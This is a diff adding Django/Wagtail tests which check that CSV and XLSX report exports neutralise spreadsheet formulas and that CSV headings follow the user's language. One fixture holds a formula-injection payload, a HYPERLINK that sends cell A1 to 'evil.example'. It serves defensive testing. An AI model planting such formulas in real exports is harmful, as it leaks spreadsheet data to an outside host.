@@ -7,6 +7,7 @@ import io
 import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
+from wagtail.users.models import UserProfile
 
 from tests.polls_admin import body
 from tests.utils import add_page, make_user, set_policy
@@ -101,3 +102,24 @@ class TestExportsNeutraliseFormulas:
         data = body(client.get(REPORT, {"export": "xlsx"}))
         rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
         assert ("'@Tarifs 2027", 1, 1, 50, 2) in rows
+
+    def test_helpfulness_with_a_hyperlink_title(self, client_for, editor, section):
+        page = add_page(section, self.FORMULA, slug="hyperlink")
+        HelpfulVote.objects.create(user=make_user("reader2"), page=page, helpful=True)
+        client = client_for(editor)
+        text = body(client.get(REPORT, {"export": "csv"})).decode("utf-8-sig")
+        assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")";1;0;100;0' in text.splitlines()
+        data = body(client.get(REPORT, {"export": "xlsx"}))
+        sheet = load_workbook(io.BytesIO(data)).active
+        assert ("'" + self.FORMULA, 1, 0, 100, 0) in list(sheet.iter_rows(values_only=True))
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_a_streamed_csv_is_in_the_users_language(client_for, editor, faq):
+    """The CSV is made after the view returns: its headings still follow the admin language."""
+    HelpfulVote.objects.create(user=make_user("reader0"), page=faq, helpful=False, comment="Trop long")
+    profile = UserProfile.get_for_user(editor)
+    profile.preferred_language = "fr"
+    profile.save()
+    text = body(client_for(editor).get(COMMENTS, {"export": "csv"})).decode("utf-8-sig")
+    assert text.splitlines()[0] == "Page;Réponse;Commentaire;Date"
